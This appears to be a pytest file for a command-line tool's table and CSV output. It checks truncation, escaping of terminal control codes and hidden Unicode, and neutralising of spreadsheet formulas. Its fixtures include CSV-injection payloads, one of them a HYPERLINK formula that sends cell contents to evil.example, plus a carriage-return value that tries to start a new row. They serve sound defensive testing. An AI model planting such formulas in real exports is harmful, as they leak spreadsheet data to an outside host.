import csv
import io

from serve.tools import registered_tools
from theurian.cli.read_commands import response_schema_name, row_fields
from theurian.cli.read_output import MIN_LAST_COLUMN, as_csv, as_table, cell, visible

COLUMNS = [("kind", "kind"), ("text", "text")]


def test_a_table_line_exactly_as_wide_as_the_terminal_is_kept_whole_and_one_wider_is_cut() -> None:
    rows = [{"kind": "pr", "text": "x" * 30}]
    fits = as_table(rows, COLUMNS, width=len("pr    ") + 30).splitlines()[1]
    assert fits == "pr    " + "x" * 30
    cut = as_table(rows, COLUMNS, width=len("pr    ") + 29).splitlines()[1]
    assert cut == "pr    " + "x" * 26 + "..." and len(cut) == len("pr    ") + 29


def test_the_text_column_keeps_its_minimum_on_a_narrow_terminal() -> None:
    line = as_table([{"kind": "pr", "text": "y" * 100}], COLUMNS, width=5).splitlines()[1]
    assert line == "pr    " + "y" * (MIN_LAST_COLUMN - 3) + "..."


def test_off_a_terminal_the_table_keeps_every_cell_whole() -> None:
    assert as_table([{"kind": "pr", "text": "z" * 500}], COLUMNS).splitlines()[1] == "pr    " + "z" * 500


def test_a_terminal_escape_or_line_break_in_stored_text_is_printed_escaped_never_obeyed() -> None:
    table = as_table([{"kind": "pr", "text": "\x1b[2Jwiped\nsecond line"}], COLUMNS)
    assert table.splitlines() == ["kind  text", "pr    \\x1b[2Jwiped\\nsecond line"]


def test_csv_keeps_a_line_break_whole_inside_its_quoted_cell_and_nested_values_as_json() -> None:
    rows = [{"a": "one\ntwo", "b": None, "c": True, "d": {"k": [1, 2]}}, {"a": "x", "e": 3}]
    printed = as_csv(rows, ["a", "b", "c", "d", "e"])
    parsed = list(csv.reader(io.StringIO(printed)))
    assert parsed == [["a", "b", "c", "d", "e"], ["one\ntwo", "", "true", '{"k":[1,2]}', ""],
                      ["x", "", "", "", "3"]]
    assert cell(False) == "false" and cell(0) == "0"


def test_csv_with_no_row_is_its_header_alone() -> None:
    assert as_csv([], ["a", "b"]) == "a,b\n"


def test_the_response_schema_of_every_tool_a_read_command_prints_is_found_from_its_name() -> None:
    read = {"review.search", "review.findSimilar", "review.listConcerns", "review.findings", "knowledge.search"}
    tools = {tool.name: tool for tool in registered_tools() if tool.name in read}
    assert len(tools) == len(read)
    assert {name: response_schema_name(name) for name in tools} == {
        name: tool.output_schema for name, tool in tools.items()}


def test_the_csv_header_is_the_row_schemas_properties_in_order() -> None:
    assert row_fields("review.findings", "findings")[:5] == [
        "commitSha", "position", "reviewer", "severity", "findingText"]


def test_a_hidden_character_of_every_class_is_shown_escaped_in_a_table_cell() -> None:
    text = "ok\u200bzero\U000e0041tag\u00adformat\u202ebidi"
    table = as_table([{"kind": "pr", "text": text}], COLUMNS)
    assert table.splitlines()[1] == "pr    ok\\u200bzero\\U000e0041tag\\xadformat\\u202ebidi"
    assert visible("plain path/é 漢字 \u3000") == "plain path/é 漢字 \u3000"  # visible text stays as typed


def test_csv_keeps_a_hidden_character_as_stored() -> None:
    printed = as_csv([{"a": "x\u200by\U000e0041"}], ["a"])
    assert list(csv.reader(io.StringIO(printed)))[1] == ["x\u200by\U000e0041"]


FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]


def test_csv_prefixes_a_quote_to_every_text_cell_a_spreadsheet_would_read_as_a_formula() -> None:
    printed = as_csv([{"a": text} for text in FORMULAS], ["a"])
    assert [row[0] for row in list(csv.reader(io.StringIO(printed)))[1:]] == ["'" + text for text in FORMULAS]


def test_csv_leaves_a_number_a_nested_value_and_text_starting_elsewhere_as_they_are() -> None:
    rows = [{"a": -1, "b": -0.5, "c": ["=x"], "d": "a=b", "e": " =x", "f": "'quoted", "g": ""}]
    printed = as_csv(rows, list("abcdefg"))
    assert list(csv.reader(io.StringIO(printed)))[1] == ["-1", "-0.5", '["=x"]', "a=b", " =x", "'quoted", ""]


def test_csv_keeps_a_carriage_return_inside_its_cell_so_it_cannot_start_a_row_of_its_own() -> None:
    planted = "harmless\r@SUM(A1)"  # no quote or comma of its own, which would have it quoted anyway
    printed = as_csv([{"a": planted, "b": "x"}, {"a": "next", "b": "y"}], ["a", "b"])
    assert list(csv.reader(io.StringIO(printed, newline=""))) == [["a", "b"], [planted, "x"], ["next", "y"]]
